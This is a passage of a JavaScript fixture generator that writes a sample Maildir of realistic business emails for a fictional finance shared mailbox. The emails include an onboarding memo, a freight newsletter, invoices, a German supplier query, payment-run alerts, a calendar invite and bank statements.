  camille: ['Camille Martin', 'camille.martin@fr.contoso.example'],
  lena: ['Lena Fischer', 'lena.fischer@fabrikam-gmbh.example'],
  sara: ['سارة حداد', 'sara.haddad@gulf-freight.example'],
  noa: ['נועה לוי', 'noa.levi@negev-logistics.example'],
  rafael: ['Rafael Souza', 'rafael.souza@northwind.example'],
  greg: ['Greg Whitfield', 'greg.whitfield@northwind.example'],
  olivia: ['Olivia Grant', 'olivia.grant@woodgrove-audit.example'],
};
const who = (k, cs, mode) => addr(P[k][0], P[k][1], cs, mode);

let counter = 0;
const written = [];
const seenIds = new Set();

/**
 * Build one message and write it into its folder.
 * folder: [] for the Inbox, ['Archive', '2025'] for a nested folder (names in Unicode).
 */
function msg({
  folder = [],
  dir = 'cur',
  flags = 'S',
  date,
  headers,
  root,
  trace,
  dkim,
  boundaries = 'exchange',
}) {
  const n = ++counter;
  const { ts, offset } = when(date);
  const tag = hex(`boundary ${n}`, 24).toUpperCase();
  const ctx = {
    counter: 0,
    boundary: BOUNDARY_STYLES[boundaries](boundaries === 'exchange' ? `AM0PR10MB1234${tag}` : tag),
  };

  let contentLines = [];
  let body;
  if (root.plain !== undefined) {
    body = crlfText(root.plain);
    if (!body.endsWith(CRLF)) body += CRLF;
  } else {
    const s = serialise(root, ctx);
    contentLines = [header('MIME-Version', '1.0'), ...s.headerLines];
    body = s.body;
  }

  const lines = [];
  const tr = trace ? trace(ts) : { head: [], tail: [] };
  for (const [k, v] of tr.head) lines.push(header(k, v));
  if (dkim) lines.push(header('DKIM-Signature', dkimSignature(dkim.d, dkim.s, body, `dkim ${n}`)));
  for (const [k, v] of headers) {
    lines.push(header(k, v === '@date' ? rfcDate(ts, offset) : v));
  }
  if (!headers.some(([k]) => k === 'Date')) throw new Error(`message ${n} has no Date`);
  const id = headers.find(([k]) => k === 'Message-ID')?.[1];
  if (!id || seenIds.has(id)) throw new Error(`message ${n}: missing or duplicate Message-ID ${id}`);
  seenIds.add(id);
  lines.push(...contentLines);
  for (const [k, v] of tr.tail) lines.push(header(k, v));

  const raw = Buffer.from(lines.join(CRLF) + CRLF + CRLF + body, 'latin1');
  for (const line of raw.toString('latin1').split(CRLF)) {
    if (line.length > 998) throw new Error(`message ${n}: line longer than 998 octets`);
  }
  if (
    raw
      .toString('latin1')
      .replace(/\r\n/g, '')
      .match(/[\r\n]/)
  )
    throw new Error(`message ${n}: bare CR or LF`);

  const folderDir = folder.length ? '.' + folder.map(mutf7).join('.') : '';
  const sortedFlags = [...flags].sort().join('');
  const base = `${ts}.M${n}P1000.sample,S=${raw.length}`;
  const name = dir === 'new' ? base : `${base}!2,${sortedFlags}`;
  const path = join(ROOT, folderDir, dir, name);
  // A complete Maildir has cur/ and new/ (git keeps only the non-empty ones).
  for (const sub of ['cur', 'new']) mkdirSync(join(ROOT, folderDir, sub), { recursive: true });
  writeFileSync(path, raw);
  written.push({ folder: folder.join('/') || 'INBOX', name });
  return raw;
}

/** Build a message without writing it (for message/rfc822 parts). */
function build(opts) {
  const { ts, offset } = when(opts.date);
  const tag = hex(`embedded ${opts.date}`, 24).toUpperCase();
  const ctx = { counter: 0, boundary: BOUNDARY_STYLES[opts.boundaries ?? 'exchange'](`DB9PR10MB5678${tag}`) };
  let contentLines = [];
  let body;
  if (opts.root.plain !== undefined) {
    body = crlfText(opts.root.plain);
    if (!body.endsWith(CRLF)) body += CRLF;
  } else {
    const s = serialise(opts.root, ctx);
    contentLines = [header('MIME-Version', '1.0'), ...s.headerLines];
    body = s.body;
  }
  const tr = opts.trace ? opts.trace(ts) : { head: [], tail: [] };
  const lines = [
    ...tr.head.map(([k, v]) => header(k, v)),
    ...opts.headers.map(([k, v]) => header(k, v === '@date' ? rfcDate(ts, offset) : v)),
    ...contentLines,
    ...tr.tail.map(([k, v]) => header(k, v)),
  ];
  return Buffer.from(lines.join(CRLF) + CRLF + CRLF + body, 'latin1');
}

const exoId = (seed, host = 'AM0PR10MB1234') =>
  `<${host}${hex(seed, 26).toUpperCase()}@${host}.eurprd10.prod.outlook.example>`;
const threadIndex = (seed) =>
  Buffer.concat([Buffer.from([0x01, 0xdc]), sha256(seed).subarray(0, 20)]).toString('base64');

// ---------------------------------------------------------------------------------------------
// Content
// ---------------------------------------------------------------------------------------------

function writeAll() {
  // ---- INBOX ---------------------------------------------------------------------------------

  // 1. Long plain-text memo with URLs, internal.
  msg({
    date: '2026-09-02T08:14:21+01:00',
    trace: (t) => internal(t, { sender: P.priya[1], xms: true }),
    headers: [
      ['From', who('priya')],
      ['To', MAILBOX],
      ['Cc', 'Finance Operations <finance-ops@contoso.example>'],
      ['Subject', 'Welcome to the invoices@ shared mailbox - how we work from September'],
      ['Thread-Topic', 'Welcome to the invoices@ shared mailbox - how we work from September'],
      ['Thread-Index', threadIndex('welcome')],
      ['Date', '@date'],
      ['Message-ID', exoId('welcome', 'AM0PR10MB4321')],
      ['Accept-Language', 'en-GB, en-US'],
      ['Content-Language', 'en-GB'],
    ],
    root: text(
      'plain',
      `Hi all,

From Monday 7 September every supplier invoice, remittance advice and payment
question for Contoso Ltd comes into this shared mailbox, invoices@contoso.example.
The old personal forwarding rules are switched off on Friday evening. This note
explains who does what, how we file mail, and what to do when something looks
wrong. Please read it once end to end; it is long because it replaces three
older documents.

1. Who watches the mailbox

   Monday to Thursday: David (AP) is first line, Mei (Treasury) is backup.
   Friday: Mei is first line, David is backup.
   Month-end days (last two working days and first three of the next month):
   everyone in Finance Operations checks the mailbox at 09:00, 13:00 and 16:00.

   "First line" means: open every new message within four working hours,
   decide where it goes, and either answer it or hand it to the right person.
   You do not need to finish the work in four hours; you need to make sure
   nobody is waiting without knowing who owns their question.

2. Folders

   Inbox           - new and in-progress items only. Aim for fewer than 30.
   Invoices        - supplier invoices received but not yet paid.
   Invoices/Paid   - invoices paid in the current financial year.
   Archive         - anything closed that is not an invoice.
   Archive/2025    - last year's closed items; read-only by convention.
   Equipe finance  - correspondence with the Paris team (in French).
   Keiri           - correspondence with the Tokyo accounting team.

   Please do not create new top-level folders without asking me first. The
   retention policy is set per folder and a new folder silently inherits the
   default (two years), which is wrong for invoices (ten years).

3. Flags and categories

   Flag a message when you are waiting on someone outside the team. Clear the
   flag when the answer arrives. Replied messages show the reply arrow; that
   is enough, you do not need to move them until the matter is closed.

4. Invoices

   - Check the invoice is addressed to Contoso Ltd, not to an individual.
   - Check there is a purchase order number. If not, reply using the template
     "Missing PO number" and flag the message.
   - Enter the invoice in the ERP the same day. Attach the PDF, never a
     screenshot.
   - Move the message to Invoices. When the payment run has gone through,
     move it to Invoices/Paid.

5. Bank details changes

   We never change a supplier's bank details because of an e-mail. Ever.
   If a message asks for new bank details, do not reply to it and do not use
   the phone number in it. Call the supplier on the number already in the
   vendor master, then tell Mei. This is the single most expensive mistake a
   finance team can make and it happens to companies much bigger than ours.

6. Suspicious mail

   The reader we use shows mail safely: scripts never run, remote images are
   not loaded until you ask, and attachments with dangerous names are shown
   with a warning. That does not make a phishing mail harmless. If in doubt,
   report it with the "Report message" button and move it to Junk Email.

7. Useful links

   Payment run calendar:   https://intranet.contoso.example/finance/payment-runs
   Vendor master requests: https://erp.contoso.example/vendors/requests
   This guide, kept current: https://intranet.contoso.example/finance/invoices-mailbox

Thanks for helping make the switch smooth. Questions to me or to Jonas.

Priya

--
Priya Raman
Finance Operations Lead | Contoso Ltd
+44 20 7946 0123
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });

  // 2. HTML newsletter with remote images and a CSS background image.
  const newsHtml = `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Northwind Traders Freight Bulletin - September 2026</title>
<style>
  body { margin:0; background:#eef2f5; font-family:Segoe UI, Helvetica, Arial, sans-serif; color:#1b2631; }
  .wrap { max-width:600px; margin:0 auto; background:#ffffff; }
  .hero { background-image:url(https://images.news.example/northwind/2026-09/hero-containers.jpg); background-size:cover; color:#ffffff; padding:48px 32px; }
  h1 { font-size:26px; margin:0 0 8px; }
  .rate td { border-bottom:1px solid #dfe6ec; padding:8px 4px; font-size:14px; }
  .cta { display:inline-block; background:#107c41; color:#ffffff; padding:12px 20px; text-decoration:none; border-radius:4px; }
  .foot { font-size:11px; color:#6b7b8a; padding:16px 32px; }
</style></head>
<body>
<div class="wrap">
  <table role="presentation" width="100%" cellpadding="0" cellspacing="0">
    <tr><td style="padding:16px 32px"><img src="https://images.news.example/northwind/logo-240x48.png" width="240" height="48" alt="Northwind Traders"></td></tr>
    <tr><td class="hero">
      <h1>Freight Bulletin &middot; September 2026</h1>
      <p>Ocean rates steady, air capacity tight before peak season.</p>
    </td></tr>
    <tr><td style="padding:24px 32px">
      <p>Dear customer,</p>
      <p>Here is our monthly summary of freight rates and surcharges that apply to your
      account from <strong>1 October 2026</strong>.</p>
      <table class="rate" width="100%" cellpadding="0" cellspacing="0">
        <tr><td><strong>Lane</strong></td><td><strong>Mode</strong></td><td align="right"><strong>Index</strong></td></tr>
        <tr><td>Rotterdam &rarr; Felixstowe</td><td>Short sea</td><td align="right">101.4</td></tr>
        <tr><td>Shanghai &rarr; Rotterdam</td><td>Ocean FCL</td><td align="right">96.8</td></tr>
        <tr><td>Frankfurt &rarr; Chicago</td><td>Air</td><td align="right">112.0</td></tr>
      </table>
      <p><img src="https://images.news.example/northwind/2026-09/chart-rates.png" width="536" height="220" alt="Rate index chart, last 12 months"></p>
      <p style="text-align:center"><a class="cta" href="https://news.northwind.example/r/2026-09/rates?utm_source=newsletter&amp;utm_medium=email">See all lanes</a></p>
      <h2 style="font-size:18px">Peak-season cut-off dates</h2>
      <p>Bookings for delivery before 18 December must be confirmed by <strong>20 November</strong>.
      Late bookings are accepted subject to capacity.</p>
    </td></tr>
    <tr><td class="foot">
      You receive this bulletin because invoices@contoso.example is a billing contact for account NW-20417.<br>
      <a href="https://news.northwind.example/unsubscribe?u=7f3a9c">Unsubscribe</a> &middot;
      <a href="https://news.northwind.example/privacy">Privacy</a><br>
      Northwind Traders Ltd, 1 Harbour Road, Example Port
      <img src="https://images.news.example/open.gif?c=2026-09&amp;u=7f3a9c" width="1" height="1" alt="">
    </td></tr>
  </table>
</div>
</body></html>
`;
  msg({
    date: '2026-09-03T10:00:07+00:00',
    dkim: { d: 'news.northwind.example', s: 'nl2026' },
    trace: (t) =>
      inbound(t, {
        host: 'out-17.mta.news.example',
        ip: '198.51.100.17',
        mailfrom: 'bounces.news.northwind.example',
        headerFrom: 'news.northwind.example',
        origin: `by out-17.mta.news.example (Postfix, from userid 1002) id 4RbK2x0fQbz9sW; ${rfcDate(t, '+0000')}`,
      }),
    boundaries: 'mailer',
    headers: [
      ['From', addr('Northwind Traders', 'news@news.northwind.example')],
      ['To', MAILBOX],
      ['Subject', 'Freight Bulletin - September 2026: rates steady, peak-season cut-offs'],
      ['Date', '@date'],
      ['Message-ID', '<20260903100007.7f3a9c.2026-09@news.northwind.example>'],
      ['List-Id', 'Northwind Freight Bulletin <bulletin.news.northwind.example>'],
      [
        'List-Unsubscribe',
        '<https://news.northwind.example/unsubscribe?u=7f3a9c>, <mailto:unsubscribe@news.northwind.example?subject=7f3a9c>',
      ],
      ['List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'],
      ['Precedence', 'bulk'],
      ['Feedback-ID', '2026-09:bulletin:northwind:mailer'],
    ],
    root: multi('alternative', [
      text(
        'plain',
        `Northwind Traders - Freight Bulletin, September 2026
====================================================

Ocean rates steady, air capacity tight before peak season.

Dear customer,

Here is our monthly summary of freight rates and surcharges that apply to your
account from 1 October 2026.

  Lane                       Mode        Index
  Rotterdam -> Felixstowe    Short sea   101.4
  Shanghai -> Rotterdam      Ocean FCL    96.8
  Frankfurt -> Chicago       Air         112.0

See all lanes: https://news.northwind.example/r/2026-09/rates

Peak-season cut-off dates
Bookings for delivery before 18 December must be confirmed by 20 November.
Late bookings are accepted subject to capacity.

--
You receive this bulletin because invoices@contoso.example is a billing
contact for account NW-20417.
Unsubscribe: https://news.northwind.example/unsubscribe?u=7f3a9c
`,
      ),
      text('html', newsHtml),
    ]),
  });

  // 3. Supplier invoice with a PDF, DKIM, full X-MS stamps; flagged and replied.
  const inv0147 = invoicePdf({
    number: 'INV-2026-0147',
    from: 'Fabrikam, Inc. - 400 Example Avenue, Springfield',
    date: '2026-09-08',
    due: '2026-10-08',
    lines: [
      'Cloud hosting services, August 2026 ............ EUR 10,400.00',
      'Managed backup, 12 TB .......................... EUR  1,680.00',
      'Support plan (Business) ........................ EUR    400.00',
    ],
    total: 'EUR 12,480.00',
  });
  msg({
    date: '2026-09-08T09:12:33+02:00',
    flags: 'FRS',
    dkim: { d: 'fabrikam.example', s: 'selector1' },
    trace: (t) =>
      inbound(t, {
        host: 'mail.fabrikam.example',
        ip: '198.51.100.23',
        mailfrom: 'fabrikam.example',
        xms: true,
        attach: true,
        origin: `from billing01.corp.fabrikam.example (billing01.corp.fabrikam.example [10.20.1.15]) by mail.fabrikam.example (Postfix) with ESMTPS id 4Rc1b2Hq3mz1xYZ for <invoices@contoso.example>; ${rfcDate(t, '+0200')}`,
      }),
    headers: [
      ['From', addr('Fabrikam Billing', 'billing@fabrikam.example')],
      ['To', MAILBOX],
      ['Subject', 'Invoice INV-2026-0147 from Fabrikam, Inc.'],
      ['Date', '@date'],
      ['Message-ID', '<inv-2026-0147.20260908071233@billing.fabrikam.example>'],
      ['Reply-To', addr('Fabrikam Accounts Receivable', 'ar@fabrikam.example')],
    ],
    root: multi('mixed', [
      text(
        'plain',
        `Dear Contoso Accounts Payable team,

Please find attached invoice INV-2026-0147 for services delivered in August 2026.

  Invoice number:  INV-2026-0147
  Purchase order:  PO-2026-0311
  Amount due:      EUR 12,480.00
  Due date:        8 October 2026

Payment details are printed on the invoice. Please quote the invoice number as
the payment reference.

Kind regards,
Fabrikam Billing
billing@fabrikam.example
`,
      ),
      file('INV-2026-0147.pdf', 'application/pdf', inv0147, { size: true }),
    ]),
  });

  // 4. German, ISO-8859-1 quoted-printable, Q-encoded subject; replied.
  msg({
    date: '2026-09-09T14:03:52+02:00',
    flags: 'RS',
    trace: (t) =>
      inbound(t, {
        host: 'mx01.fabrikam-gmbh.example',
        ip: '203.0.113.41',
        mailfrom: 'fabrikam-gmbh.example',
        auth: 'nodkim',
        lang: 'de',
        origin: `from [192.168.178.24] (p5b0c1d2e.dip0.example [198.51.100.200]) by mx01.fabrikam-gmbh.example (Postfix) with ESMTPSA id 8C1F2A0042; ${rfcDate(t, '+0200')}`,
      }),
    boundaries: 'java',
    headers: [
      ['From', who('lena')],
      ['To', MAILBOX],
      ['Subject', encodedWords('Rückfrage zu Rechnung Nr. 4711 (Lieferung vom 28.08.)', 'ISO-8859-1', 'Q')],
      ['Date', '@date'],
      ['Message-ID', '<a81c2f0e-4711-4b1a-9c3e-2d6b8f0e1a55@fabrikam-gmbh.example>'],
      ['User-Agent', 'Mozilla Thunderbird'],
      ['Content-Language', 'de-DE'],
    ],
    root: text(
      'plain',
      `Sehr geehrte Damen und Herren,

zu unserer Rechnung Nr. 4711 über 3.418,50 EUR haben wir noch keinen
Zahlungseingang feststellen können. Laut Ihrem Lieferschein wurden am
28.08. nur 46 der 48 bestellten Gehäuse übernommen; zwei Stück wurden
wegen Transportschäden zurückgewiesen.

Könnten Sie uns bitte kurz bestätigen, ob Sie

  a) die Rechnung um die zwei beschädigten Gehäuse (je 71,22 EUR) kürzen
     möchten, oder
  b) eine Ersatzlieferung wünschen und die Rechnung vollständig begleichen?

Für Rückfragen stehe ich Ihnen gern zur Verfügung. Übrigens: Die neue
Lieferadresse in Düsseldorf ist bei uns bereits hinterlegt.

Mit freundlichen Grüßen

Lena Fischer
Buchhaltung / Debitorenmanagement
Fabrikam GmbH · Musterstraße 12 · 12345 Beispielstadt
Tel. +49 30 1234567-89
`,
      { charset: 'ISO-8859-1', format: 'flowed' },
    ),
  });

  // 5. Windows-1252, 8bit body with euro sign and smart quotes; Q-encoded subject.
  msg({
    date: '2026-09-11T16:41:09+01:00',
    dkim: { d: 'northwind.example', s: 's2048' },
    trace: (t) =>
      inbound(t, {
        host: 'smtp.northwind.example',
        ip: '198.51.100.88',
        mailfrom: 'northwind.example',
        origin: `from NW-LT-0417 ([10.1.4.17]) by smtp.northwind.example with Microsoft SMTPSVC(10.0.17763.1697); ${rfcDate(t, '+0100')}`,
      }),
    headers: [
      ['From', who('rafael')],
      ['To', MAILBOX],
      ['Cc', who('greg')],
      [
        'Subject',
        encodedWords('Q4 price adjustment – “fuel surcharge” from 1 November (€)', 'windows-1252', 'Q'),
      ],
      ['Date', '@date'],
      ['Message-ID', '<000001dc2241$5a0b8c10$0e22a430$@northwind.example>'],
      ['X-Mailer', 'Microsoft Outlook 16.0'],
      ['Thread-Index', threadIndex('fuel')],
      ['Content-Language', 'en-gb'],
    ],
    root: text(
      'plain',
      `Hello Contoso team,

As announced in our bulletin, the “fuel surcharge” on road freight changes
from 1 November 2026. For your account (NW-20417) that means:

  • Full truckload, UK mainland:     € 142.00 per load (was € 128.50)
  • Part load, per pallet:           € 11.75 (was € 10.90)
  • Express courier, per parcel:     € 2.40 – unchanged

We know this isn’t welcome news… The index we follow rose 9.8 % since June;
we’ve passed on just under two-thirds of that.

If you’d like to fix the surcharge for Q4 instead, reply with “FIX Q4” and
I’ll send the addendum — it’s a one-page document.

Best regards,
Rafael Souza
Key Account Manager — Northwind Traders
`,
      { charset: 'windows-1252', cte: '8bit' },
    ),
  });

  // 6–7. Monitoring alert and its resolution.
  const alertTrace = (t) => internal(t, { sender: 'alerts@contoso.example' });
  msg({
    date: '2026-09-15T06:02:11+00:00',
    trace: alertTrace,
    headers: [
      ['From', addr('Contoso Monitoring', 'alerts@contoso.example')],
      ['To', MAILBOX],
      ['Subject', '[FIRING:1] PaymentRunFailed erp-batch-01 (SEPA batch 2026-09-15, severity=critical)'],
      ['Date', '@date'],
      ['Message-ID', '<alert.3f9c1e2a.1789452131@alerts.contoso.example>'],
      ['Auto-Submitted', 'auto-generated'],
      ['X-Auto-Response-Suppress', 'All'],
      ['X-Alert-Id', '3f9c1e2a'],
      ['X-Alert-Severity', 'critical'],
    ],
    root: text(
      'plain',
      `[FIRING:1] PaymentRunFailed

Alert:       PaymentRunFailed
Severity:    critical
Host:        erp-batch-01.corp.contoso.example
Job:         sepa-payment-run
Batch:       SEPA-2026-09-15 (214 payments, EUR 1,284,930.55)
Started:     2026-09-15 05:45:00 UTC
Failed at:   2026-09-15 06:01:58 UTC (step 4/6: sign and upload to bank)

Error:
  BankGatewayError: upload rejected (HTTP 401) - client certificate expired
  on 2026-09-14T23:59:59Z (subject CN=erp-payments.contoso.example)

Runbook:   https://wiki.contoso.example/runbooks/payment-run-failed
Silence:   https://alerts.contoso.example/silence?alert=3f9c1e2a
Dashboard: https://grafana.contoso.example/d/payments/payment-runs

No payments were sent. The batch can be re-run once the certificate is renewed.
--
Sent by Contoso Monitoring. Do not reply to this message.
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });
  msg({
    date: '2026-09-15T09:37:40+00:00',
    trace: alertTrace,
    headers: [
      ['From', addr('Contoso Monitoring', 'alerts@contoso.example')],
      ['To', MAILBOX],
      ['Subject', '[RESOLVED] PaymentRunFailed erp-batch-01 (SEPA batch 2026-09-15, severity=critical)'],
      ['Date', '@date'],
      ['Message-ID', '<alert.3f9c1e2a.1789465060@alerts.contoso.example>'],
      ['In-Reply-To', '<alert.3f9c1e2a.1789452131@alerts.contoso.example>'],
      ['References', '<alert.3f9c1e2a.1789452131@alerts.contoso.example>'],
      ['Auto-Submitted', 'auto-generated'],
      ['X-Auto-Response-Suppress', 'All'],
      ['X-Alert-Id', '3f9c1e2a'],
    ],
    root: text(
      'plain',
      `[RESOLVED] PaymentRunFailed

Alert:      PaymentRunFailed
Host:       erp-batch-01.corp.contoso.example
Resolved:   2026-09-15 09:37:31 UTC (duration 3h35m)

Re-run of SEPA-2026-09-15 completed: 214 of 214 payments accepted by the bank.
Certificate renewed by IT (change CHG0042817), valid until 2027-09-14.
--
Sent by Contoso Monitoring. Do not reply to this message.
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });

  // 8. Calendar invite: alternative with text/calendar, plus the .ics attached.
  const ics = icsFold(`BEGIN:VCALENDAR
METHOD:REQUEST
PRODID:Microsoft Exchange Server 2010
VERSION:2.0
BEGIN:VTIMEZONE
TZID:W. Europe Standard Time
BEGIN:STANDARD
DTSTART:16010101T030000
TZOFFSETFROM:+0200
TZOFFSETTO:+0100
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10
END:STANDARD
BEGIN:DAYLIGHT
DTSTART:16010101T020000
TZOFFSETFROM:+0100
TZOFFSETTO:+0200
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3
END:DAYLIGHT
END:VTIMEZONE
BEGIN:VEVENT
ORGANIZER;CN=Jonas Keller:mailto:jonas.keller@contoso.example
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Contoso Invoices:mailto:invoices@contoso.example
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Priya Raman:mailto:priya.raman@contoso.example
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=David Okafor:mailto:david.okafor@contoso.example
ATTENDEE;ROLE=OPT-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Mei Chen:mailto:mei.chen@contoso.example
DESCRIPTION;LANGUAGE=en-US:Agenda:\\n1. Open invoices over 30 days\\n2. Accruals for September\\n3. Intercompany balances\\n4. Payment run calendar for Q4\\n\\nJoin online: https://meet.contoso.example/j/4471920385
UID:040000008200E00074C5B7101A82E00800000000${hex('invite', 24).toUpperCase()}
SUMMARY;LANGUAGE=en-US:Month-end close review (September)
DTSTART;TZID=W. Europe Standard Time:20260930T140000
DTEND;TZID=W. Europe Standard Time:20260930T150000
CLASS:PUBLIC
PRIORITY:5
DTSTAMP:20260918T071502Z
TRANSP:OPAQUE
STATUS:CONFIRMED
SEQUENCE:0
LOCATION;LANGUAGE=en-US:Harbour meeting room (3.14) and online
X-MICROSOFT-CDO-APPT-SEQUENCE:0
X-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE
X-MICROSOFT-CDO-INTENDEDSTATUS:BUSY
X-MICROSOFT-CDO-IMPORTANCE:1
X-MICROSOFT-DONOTFORWARDMEETING:FALSE
BEGIN:VALARM
DESCRIPTION:REMINDER
TRIGGER;RELATED=START:-PT15M
ACTION:DISPLAY
END:VALARM
END:VEVENT
END:VCALENDAR
`);
  msg({
    date: '2026-09-18T09:15:02+02:00',
    trace: (t) => internal(t, { sender: P.jonas[1] }),
    headers: [
      ['From', who('jonas')],
      ['To', [MAILBOX, who('priya'), who('david')].join(', ')],
      ['Cc', who('mei')],
      ['Subject', 'Month-end close review (September)'],
      ['Thread-Topic', 'Month-end close review (September)'],
      ['Thread-Index', threadIndex('invite')],
      ['Date', '@date'],
      ['Message-ID', exoId('invite', 'AM0PR10MB4466')],
      ['Content-Language', 'en-US'],
      ['X-MS-Has-Attach', 'yes'],
      ['X-MS-TNEF-Correlator', ''],
    ],
    root: multi('mixed', [
      multi('alternative', [
        text(
          'plain',
          `When: Wednesday, 30 September 2026 14:00-15:00 (UTC+01:00) Amsterdam, Berlin, Bern, Rome, Stockholm, Vienna.
Where: Harbour meeting room (3.14) and online

Agenda:
1. Open invoices over 30 days
2. Accruals for September
3. Intercompany balances
4. Payment run calendar for Q4

Join online: https://meet.contoso.example/j/4471920385
`,
        ),
        text(
          'html',
          `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><p style="font-family:Calibri,sans-serif"><b>When:</b> Wednesday, 30 September 2026 14:00-15:00 (UTC+01:00) Amsterdam, Berlin, Bern, Rome, Stockholm, Vienna.<br>
<b>Where:</b> Harbour meeting room (3.14) and online</p>
<p>Agenda:</p><ol><li>Open invoices over 30 days</li><li>Accruals for September</li><li>Intercompany balances</li><li>Payment run calendar for Q4</li></ol>
<p><a href="https://meet.contoso.example/j/4471920385">Join online</a></p></body></html>
`,
        ),
        {
          ct: 'text/calendar; charset="utf-8"; method=REQUEST',
          cte: 'base64',
          headers: [],
          data: Buffer.from(ics),
        },
      ]),
      file('invite.ics', 'text/calendar', Buffer.from(ics), { extraCt: '; charset="utf-8"; method=REQUEST' }),
    ]),
  });

  // 9. Plain-text reply chain with quoting; replied.
  msg({
    date: '2026-09-21T11:26:45+01:00',
    flags: 'RS',
    trace: (t) => internal(t, { sender: P.david[1] }),
    headers: [
      ['From', who('david')],
      ['To', MAILBOX],
      ['Subject', 'RE: Missing PO number on Northwind invoice NW-55812'],
      ['Thread-Topic', 'Missing PO number on Northwind invoice NW-55812'],
      ['Thread-Index', threadIndex('nw55812')],
      ['Date', '@date'],
      ['Message-ID', exoId('nw55812-3', 'AM0PR10MB4502')],
      ['In-Reply-To', '<000101dc2a10$1b2c3d40$51867ac0$@northwind.example>'],
      [
        'References',
        '<AM0PR10MB1234NW55812A@AM0PR10MB1234.eurprd10.prod.outlook.example> <000101dc2a10$1b2c3d40$51867ac0$@northwind.example>',
      ],
    ],
    root: text(
      'plain',
      `Team,

Northwind came back with the PO (see below). I've matched it in the ERP:
PO-2026-0288 covers NW-55812 in full, GRN posted 14/09. Releasing for the
Friday payment run unless anyone objects.

David

-----Original Message-----
From: Greg Whitfield <greg.whitfield@northwind.example>
Sent: Monday, September 21, 2026 10:58 AM
To: Contoso Invoices <invoices@contoso.example>
Subject: RE: Missing PO number on Northwind invoice NW-55812

Hi,

Apologies - the PO number was left off by our new billing system. It is
PO-2026-0288. We'll issue a corrected copy if you need one for your records.

Greg

> -----Original Message-----
> From: Contoso Invoices <invoices@contoso.example>
> Sent: Thursday, September 17, 2026 3:12 PM
> To: Greg Whitfield <greg.whitfield@northwind.example>
> Subject: Missing PO number on Northwind invoice NW-55812
>
> Dear Greg,
>
> We received invoice NW-55812 (EUR 6,210.00) but it does not show a
> purchase order number. Our policy is that we can only pay invoices
> that reference a valid Contoso PO.
>
> > Could you please reply with the PO number, or send a corrected
> > invoice? Once we have it we will include the invoice in the next
> > payment run.
>
> Kind regards,
> Contoso Invoices
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });

  // 10. Automated no-reply receipt (HTML + text).
  msg({
    date: '2026-09-22T07:30:00+00:00',
    dkim: { d: 'pay.northwind.example', s: 'k1' },
    trace: (t) =>
      inbound(t, {
        host: 'o1.ptr4417.pay.northwind.example',
        ip: '203.0.113.77',
        mailfrom: 'bounce.pay.northwind.example',
        headerFrom: 'pay.northwind.example',
        five: false,
      }),
    boundaries: 'java',
    headers: [
      ['From', addr('Northwind Payments', 'noreply@pay.northwind.example')],
      ['To', MAILBOX],
      ['Subject', 'Payment received - receipt R-2026-88213'],
      ['Date', '@date'],
      ['Message-ID', '<receipt.R-2026-88213@pay.northwind.example>'],
      ['Auto-Submitted', 'auto-generated'],
    ],
    root: multi('alternative', [
      text(
        'plain',
        `Payment received - thank you

Receipt:    R-2026-88213
Account:    NW-20417 (Contoso Ltd)
Amount:     EUR 6,210.00
Method:     SEPA credit transfer
Reference:  NW-55812
Received:   22 September 2026

This is an automated message from a no-reply address. For questions about your
account, visit https://pay.northwind.example/help
`,
      ),
      text(
        'html',
        `<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="font-family:Arial,sans-serif;color:#222">
<h2 style="color:#107c41">Payment received - thank you</h2>
<table cellpadding="4" style="border-collapse:collapse">
<tr><td>Receipt</td><td><b>R-2026-88213</b></td></tr>
<tr><td>Account</td><td>NW-20417 (Contoso Ltd)</td></tr>
<tr><td>Amount</td><td>EUR 6,210.00</td></tr>
<tr><td>Method</td><td>SEPA credit transfer</td></tr>
<tr><td>Reference</td><td>NW-55812</td></tr>
<tr><td>Received</td><td>22 September 2026</td></tr>
</table>
<p style="font-size:12px;color:#666">This is an automated message from a no-reply address.
For questions about your account, visit <a href="https://pay.northwind.example/help">pay.northwind.example/help</a>.</p>
</body></html>
`,
      ),
    ]),
  });

  // 11. Zip attachment (CSV + TXT inside).
  const stmtCsv = `booking_date,value_date,reference,counterparty,amount,currency,balance
2026-09-01,2026-09-01,OPENING BALANCE,,0.00,EUR,482190.33
2026-09-04,2026-09-04,SEPA-2026-09-04,Payment run (61 items),-318220.10,EUR,163970.23
2026-09-08,2026-09-08,NW-55790,Northwind Traders,18400.00,EUR,182370.23
2026-09-15,2026-09-15,SEPA-2026-09-15,Payment run (214 items),-1284930.55,EUR,-1102560.32
2026-09-15,2026-09-15,CASHPOOL-IN,Contoso Treasury cash pool,1300000.00,EUR,197439.68
2026-09-22,2026-09-22,NW-55812,Northwind Traders,-6210.00,EUR,191229.68
2026-09-30,2026-09-30,FEES-2026-09,Bank charges September,-142.50,EUR,191087.18
`;
  const stmtZip = zip([
    { name: 'statement-2026-09-EUR-main.csv', data: Buffer.from(crlfText(stmtCsv)) },
    {
      name: 'read-me.txt',
      data: Buffer.from(
        crlfText(`September 2026 statements - Contoso Ltd main EUR account
Exported from the bank portal on 2026-10-01 by Mei Chen.
Amounts are in EUR; negative amounts are debits.
The cash-pool sweep on 15/09 covers the re-run payment batch.
`),
      ),
    },
  ]);
  msg({
    date: '2026-10-01T09:41:18+01:00',
    trace: (t) => internal(t, { sender: P.mei[1] }),
    headers: [
      ['From', who('mei')],
      ['To', MAILBOX],
      ['Subject', 'September bank statements (zip) for reconciliation'],
      ['Date', '@date'],
